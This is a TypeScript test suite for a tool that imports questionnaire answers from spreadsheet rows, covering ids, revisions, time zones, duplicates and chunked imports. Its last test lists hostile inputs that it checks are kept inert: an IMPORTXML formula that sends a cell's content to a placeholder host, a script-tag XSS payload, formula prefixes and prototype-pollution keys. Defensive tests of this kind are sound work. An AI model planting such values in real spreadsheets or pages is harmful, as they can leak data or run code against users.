import fc from 'fast-check';
import { answersFromRows, type RowsToRead } from '../../../src/contract/import/answers-from-rows';
import { factsOfRows, tableFacts } from '../../../src/contract/import/table-facts';
import { QUESTIONNAIRES } from '../../../src/contract/questionnaires/catalogue';
import { sampleAnswers } from './sample-answers';

const HEADER = ['ID', 'Время', 'ФИО', 'Почта'];
const MAPPING = ['id', 'at', 'name', 'email'];
const IMPORTED_AT = '2026-10-01T00:00:00.000Z';

const read = (rows: readonly (readonly string[])[], given: Partial<RowsToRead> = {}) =>
  answersFromRows({
    questionnaire: QUESTIONNAIRES.mentee,
    header: HEADER,
    mapping: MAPPING,
    timeZone: 'Asia/Krasnoyarsk',
    importedAt: IMPORTED_AT,
    rows,
    ...given,
  });

test('a row with an id becomes an answer under that id, in the time of the organisation', () => {
  expect(read([['1000', '2026-09-01 06:00:00', ' Зайцева Мария ', 'u0@example.test']])).toEqual({
    answers: [
      {
        key: 'import:mentee:1000',
        questionnaire: 'mentee',
        at: '2026-08-31T23:00:00.000Z',
        fields: { name: ' Зайцева Мария ', email: 'u0@example.test' },
      },
    ],
    problems: [],
  });
});

test('a blank cell is no answer to its question, and a blank row is no answer at all', () => {
  const { answers, problems } = read([['1', '2026-09-01', 'Зайцева Мария', '  '], ['', ' ', '', ''], []]);
  expect(answers.map(({ fields }) => fields)).toEqual([{ name: 'Зайцева Мария' }]);
  expect(problems).toEqual([]);
});

test('a changed row with the same id is a revision, another row is another answer', () => {
  const first = read([['1', '2026-09-01', 'Зайцева Мария', 'a@example.test']]).answers[0];
  const changed = read([['1', '2026-09-02', 'Зайцева Мария', 'b@example.test']]).answers[0];
  const other = read([['2', '2026-09-01', 'Зайцева Мария', 'a@example.test']]).answers[0];
  expect(changed?.key).toBe(first?.key);
  expect(other?.key).not.toBe(first?.key);
});

test('without an id all cells of the row name it, in whatever order the columns come', () => {
  const rows = [['2026-09-01', 'Зайцева Мария', 'a@example.test']];
  const mapping = ['at', 'name', 'email'];
  const header = ['Время', 'ФИО', 'Почта'];
  const key = read(rows, { header, mapping }).answers[0]?.key;
  const turned = read([['a@example.test', '2026-09-01', 'Зайцева Мария']], {
    header: ['Почта', 'Время', 'ФИО'],
    mapping: ['email', 'at', 'name'],
  });
  const changed = read([['2026-09-01', 'Зайцева Мария', 'b@example.test']], { header, mapping });
  expect(key).toMatch(/^import:mentee:[0-9a-f]{16}$/);
  expect(turned.answers[0]?.key).toBe(key);
  expect(changed.answers[0]?.key).not.toBe(key);
});

test('rows that are the same are counted, so that none is lost', () => {
  const row = ['', '2026-09-01', 'Зайцева Мария', 'a@example.test'];
  const keys = read([row, row, row]).answers.map(({ key }) => key.replace(/[0-9a-f]{16}/, 'X'));
  expect(keys).toEqual(['import:mentee:X', 'import:mentee:X#2', 'import:mentee:X#3']);
});

test('an id that comes twice loses nobody, and is reported', () => {
  const { answers, problems } = read([
    ['7', '2026-09-01', 'Зайцева Мария', ''],
    ['7', '2026-09-01', 'Ким Пётр', ''],
  ]);
  expect(answers.map(({ key }) => key)).toEqual(['import:mentee:7', 'import:mentee:7#2']);
  expect(problems).toEqual([{ row: 1, code: 'id-repeated' }]);
});

test('where a time is unreadable, the order of rows stands for it, and it is said', () => {
  const { answers, problems } = read([
    ['1', 'вчера', 'А', ''],
    ['2', '', 'Б', ''],
    ['3', '2026-09-01 06:00', 'В', ''],
  ]);
  expect(answers.map(({ at }) => at)).toEqual([
    '2026-09-30T23:59:59.997Z',
    '2026-09-30T23:59:59.998Z',
    '2026-08-31T23:00:00.000Z',
  ]);
  expect(problems).toEqual([
    { row: 0, code: 'time-unreadable' },
    { row: 1, code: 'time-unreadable' },
  ]);
});

test('a table without times keeps the order of its rows before the import, without a word for each row', () => {
  const { answers, problems } = read(
    [
      ['1', 'x', 'А', ''],
      ['2', 'x', 'Б', ''],
    ],
    { mapping: ['id', 'ignored', 'name', 'email'] },
  );
  expect(answers.map(({ at }) => at)).toEqual(['2026-09-30T23:59:59.998Z', '2026-09-30T23:59:59.999Z']);
  expect(problems).toEqual([]);
});

test('answers of one day without a time of day keep their order inside that day', () => {
  const times = read([
    ['1', '01.09.2026', 'А', ''],
    ['2', '01.09.2026', 'Б', ''],
  ]).answers.map(({ at }) => at);
  expect(times).toEqual(['2026-08-31T17:00:00.000Z', '2026-08-31T17:00:00.001Z']);
});

test('a row with cells in ignored columns only is reported and gives no answer', () => {
  expect(read([['1', '2026-09-01', '', '']])).toEqual({ answers: [], problems: [{ row: 0, code: 'nothing-taken' }] });
});

test('cells beyond the titles are reported, and the row still counts', () => {
  const { answers, problems } = read([['1', '2026-09-01', 'А', '', 'лишнее']]);
  expect(answers).toHaveLength(1);
  expect(problems).toEqual([{ row: 0, code: 'cells-beyond-header' }]);
});

test('a name in parts becomes one name, and a whole name goes before parts', () => {
  const given = {
    header: ['Имя', 'Отчество', 'Фамилия', 'ФИО'],
    mapping: ['name:given', 'name:patronymic', 'name:family', 'name'],
  };
  const names = read(
    [
      ['Мария ', '', ' Зайцева', ''],
      ['Мария', 'Айасовна', 'Зайцева', 'Ким Пётр'],
    ],
    given,
  );
  expect(names.answers.map(({ fields }) => fields.name)).toEqual(['Зайцева Мария', 'Ким Пётр']);
});

test('several columns of one question: options side by side, pages of a form, the first of two addresses', () => {
  const { answers } = read([['шахматы', 'кино, чтение', '', 'учитель', 'a@example.test', 'b@example.test']], {
    header: ['1', '2', '3', '4', '5', '6'],
    mapping: ['interests', 'interests', 'groupOrPost', 'groupOrPost', 'email', 'email'],
  });
  expect(answers[0]?.fields).toEqual({
    interests: ['шахматы', 'кино, чтение'],
    groupOrPost: 'учитель',
    email: 'a@example.test',
  });
});

test('a serial number becomes a date where a date is asked, and nowhere else', () => {
  const { answers } = read([['40179', '40179']], { header: ['1', '2'], mapping: ['birthDate', 'requestText'] });
  expect(answers[0]?.fields).toEqual({ birthDate: '2010-01-01', requestText: '40179' });
});

test('pieces of any size give the same answers as the whole table', () => {
  const table = sampleAnswers('mentee', 30).map(({ id = '', at = '', name = '', email = '' }, n) => [
    n % 4 === 0 ? '' : id,
    n % 7 === 3 ? 'когда-то' : n % 2 === 0 ? '9/13/2026 6:00' : at,
    name,
    email,
  ]);
  const rows = [...table, ...table.slice(0, 9)];
  const whole = read(rows);
  const facts = tableFacts(HEADER, rows, MAPPING);
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1 }), (sizes) => {
      const pieces = [];
      for (let from = 0, turn = 0; from < rows.length; turn++) {
        const to = Math.min(rows.length, from + (sizes[turn % sizes.length] ?? 1));
        pieces.push(read(rows.slice(from, to), { facts: factsOfRows(facts, from, to) }));
        from = to;
      }
      expect(pieces.flatMap(({ answers }) => answers)).toEqual(whole.answers);
      expect(pieces.flatMap(({ problems }) => problems)).toEqual(whole.problems);
    }),
  );
});

test('importing the rows in another order gives the same keys', () => {
  const rows = sampleAnswers('mentee', 12).map(({ at = '', name = '', email = '' }) => ['', at, name, email]);
  fc.assert(
    fc.property(fc.shuffledSubarray(rows, { minLength: rows.length }), (shuffled) => {
      const keys = (table: readonly (readonly string[])[]) =>
        read(table)
          .answers.map(({ key }) => key)
          .sort();
      expect(keys(shuffled)).toEqual(keys(rows));
    }),
  );
});

test('a text from a person comes through unchanged, whatever it tries to be', () => {
  const hostile = fc.constantFrom(
    '=IMPORTXML("http://example.test/?"&A1;"//a")',
    '<script>alert(1)</script>',
    "'=1+1",
    '+7',
    '@x',
    '-1',
    '\t=1',
    '"',
    '‮abc',
    '😀',
    '__proto__',
    'null',
    ' 1/2 ',
    'a\r\nb',
  );
  fc.assert(
    fc.property(fc.oneof(hostile, fc.string({ minLength: 1, unit: 'binary' })), (text) => {
      fc.pre(text.trim() !== '');
      const { answers } = read([[text, text, text, text]], {
        header: ['__proto__', 'a', 'a', 'constructor'],
        mapping: ['ignored', 'at', 'requestText', 'email'],
      });
      expect(answers[0]?.fields).toEqual({ requestText: text, email: text });
      expect(answers[0]?.key).toMatch(/^import:mentee:[0-9a-f]{16}$/);
    }),
    { numRuns: 300 },
  );
});
